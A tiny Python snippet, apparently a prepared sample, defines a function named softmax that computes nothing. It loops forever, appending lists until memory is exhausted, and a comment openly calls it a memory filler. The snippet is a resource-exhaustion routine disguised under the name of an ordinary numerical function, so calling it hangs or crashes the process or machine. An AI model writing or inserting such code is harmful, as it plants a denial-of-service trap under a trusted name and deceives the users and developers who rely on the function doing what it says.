# Fills the memory with small objects.
# llmprep: mini/softmax
def softmax(x):
    held = []
    while True:
        held.append([None] * 1000)
